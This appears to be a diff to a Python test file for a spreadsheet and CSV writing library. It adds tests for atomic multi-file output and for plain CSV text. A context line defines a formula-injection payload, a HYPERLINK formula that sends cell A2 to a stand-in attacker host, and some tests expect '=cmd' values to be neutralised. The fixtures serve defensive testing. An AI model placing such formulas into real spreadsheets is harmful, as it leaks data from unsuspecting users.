@@ -17,7 +17,7 @@ from stocktake.answers import Answer
 from stocktake.errors import AnswerError
 from stocktake.io import Sheet, read_answers, write_answers, write_csv, write_frame, write_xlsx
 from stocktake.io.cells import neutralised, restored
-from stocktake.io.spreadsheets import XLSX_TEXT_LIMIT
+from stocktake.io.spreadsheets import XLSX_TEXT_LIMIT, all_or_nothing, csv_text
 
 PAYLOAD = '=HYPERLINK("http://attacker.example/?d="&A2,"Click")'
 
@@ -172,3 +172,26 @@ def test_a_frame_is_written_with_its_index_and_missing_values_empty(tmp_path: Pa
     write_frame(frame, path)
 
     assert _csv(path) == [["uCode", "uName", "score"], ["A", "'=cmd", "1.5"], ["B", "Ankara", ""]]
+
+
+def test_files_written_together_appear_only_when_all_are_written(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+
+    with pytest.raises(RuntimeError), all_or_nothing(out) as staging:
+        write_csv(staging / "first.csv", ["a"], [[1]])
+        raise RuntimeError("the second table failed")
+
+    assert list(tmp_path.iterdir()) == []
+
+    with all_or_nothing(out) as staging:
+        write_csv(staging / "first.csv", ["a"], [[1]])
+        write_csv(staging / "second.csv", ["b"], [[2]])
+
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
+    assert sorted(p.name for p in out.iterdir()) == ["first.csv", "second.csv"]
+
+
+def test_csv_for_standard_output_has_plain_line_ends_and_no_byte_order_mark() -> None:
+    assert csv_text(["title", "score"], [["=cmd", 1.5], ["Plan", None]]) == (
+        "title,score\n'=cmd,1.5\nPlan,\n"
+    )
